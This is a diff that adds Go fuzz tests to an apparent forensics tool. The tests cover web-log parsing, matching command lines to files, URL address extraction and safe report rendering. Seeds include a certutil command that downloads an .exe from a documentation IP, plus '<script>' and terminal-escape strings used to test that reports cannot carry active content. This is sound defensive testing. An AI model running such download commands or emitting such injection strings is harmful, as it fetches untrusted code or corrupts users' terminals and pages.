@@ -1,0 +1,126 @@
+package origin
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"io"
+	"net/netip"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/birthmark-dfir/birthmark/timeline"
+)
+
+// Whatever a web log holds: every line is read once, where it is, and none makes
+// the reader keep more than a line.
+func FuzzWebLog(f *testing.F) {
+	f.Add([]byte("#Fields: date time cs-method cs-uri-stem c-ip sc-status time-taken\r\n2026-03-02 13:42:11 GET / 192.0.2.1 200 12\r\n"))
+	f.Add([]byte("#Date: 2026-03-02\n#Fields: time\n13:42:11\n\x00\x00\n#Fields:\n x \n"))
+	f.Add([]byte("no fields at all"))
+	f.Fuzz(func(t *testing.T, log []byte) {
+		lines := w3cLines{r: bufio.NewReaderSize(bytes.NewReader(log), 16)}
+		end := int64(0)
+		for {
+			r, ok, err := lines.next()
+			if err == io.EOF {
+				break
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if r.offset < end || lines.offset > int64(len(log)) {
+				t.Fatalf("a line at %d, after one that ends at %d of %d", r.offset, end, len(log))
+			}
+			end = lines.offset
+			if !ok {
+				continue
+			}
+			if !bytes.HasPrefix(bytes.TrimLeft(log[r.offset:], "\r\x00"), []byte(r.text)) {
+				t.Fatalf("at %d there is %.60q, want %.60q", r.offset, log[r.offset:], r.text)
+			}
+			if r.at.IsZero() || r.taken < 0 {
+				t.Fatalf("%+v", r)
+			}
+			r.fits(r.at)
+			r.cite()
+			r.url()
+		}
+	})
+}
+
+// A command line names a file only if it holds its name, and a quoted path of a
+// file always names it.
+func FuzzNamesFile(f *testing.F) {
+	f.Add(`certutil -urlcache -f http://198.51.100.23/u/a.exe C:\x\a.exe`, `C:\x\a.exe`)
+	f.Add(`"C:\x y\ä.exe" /s`, `C:\x y\Ä.exe`)
+	f.Add("", "")
+	f.Fuzz(func(t *testing.T, line, path string) {
+		if namesFile(line, path) && !containsFold(line, baseName(path)) {
+			t.Errorf("%q names %q", line, path)
+		}
+		if baseName(path) != "" && !strings.ContainsAny(path, "\"/") && !namesFile(line+` "`+path+`"`, path) {
+			t.Errorf("%q does not name %q", line+` "`+path+`"`, path)
+		}
+		q := &inquiry{drive: "C", path: path}
+		if q.commands(line) && !containsFold(timeline.NormalizePath("C", strings.Trim(line, `" `)), path) {
+			t.Errorf("the command %q starts %q", line, path)
+		}
+	})
+}
+
+// An address that comes out of a URL is one, or what was stated.
+func FuzzAddressOf(f *testing.F) {
+	f.Add("http://203.0.113.77:8080/a.exe", "")
+	f.Add("http://[2001:db8::1%25eth0]/", "192.0.2.1")
+	f.Add("%zz", "x")
+	f.Fuzz(func(t *testing.T, url, stated string) {
+		got := addressOf(url, stated)
+		if _, err := netip.ParseAddr(got); err != nil && got != stated {
+			t.Errorf("addressOf(%q, %q) = %q", url, stated, got)
+		}
+	})
+}
+
+// Whatever evidence says, no form of a report lets it act, and the JSON says it
+// again.
+func FuzzReport(f *testing.F) {
+	f.Add("C:\\x\x1b[2J\u202e.exe", "a  b\nc", int64(7))
+	f.Add("<script>", "\xff\xed\xa0\x80\U000e0041", int64(-1))
+	f.Fuzz(func(t *testing.T, path, text string, offset int64) {
+		c := Citation{Artifact: path, Record: text, Offset: offset, Text: text}
+		r := &Report{
+			Subject: Subject{Path: path, OwnerSID: text},
+			Answers: []Answer{{Question: What, Answer: text, Grade: Recorded, Evidence: []Citation{c, c}, Rivals: []string{text, path},
+				Facts: []Fact{{"original_name", text}, {"company", path}}}},
+			Contradictions: []Contradiction{{Kind: text, Text: path, Evidence: []Citation{c}}},
+			Coverage:       []Coverage{{Artifact: path, State: text}},
+			Events:         []Event{{Message: text, Path: path, Artifact: path}},
+		}
+		for _, write := range []func(io.Writer) error{r.WriteText, r.WriteHTML, r.WriteJSON} {
+			var b bytes.Buffer
+			if err := write(&b); err != nil {
+				t.Fatal(err)
+			}
+			out := b.String()
+			if !utf8.ValidString(out) {
+				t.Fatalf("no UTF-8: %q", out)
+			}
+			if shown := timeline.Printable(strings.ReplaceAll(out, "\n", "")); shown != strings.ReplaceAll(out, "\n", "") {
+				t.Fatalf("something acts in %q", out)
+			}
+		}
+		var b bytes.Buffer
+		if err := r.WriteJSON(&b); err != nil {
+			t.Fatal(err)
+		}
+		var back Report
+		if err := json.Unmarshal(b.Bytes(), &back); err != nil {
+			t.Fatal(err)
+		}
+		if utf8.ValidString(text) && back.Answers[0].Answer != text {
+			t.Errorf("%q came back as %q", text, back.Answers[0].Answer)
+		}
+	})
+}
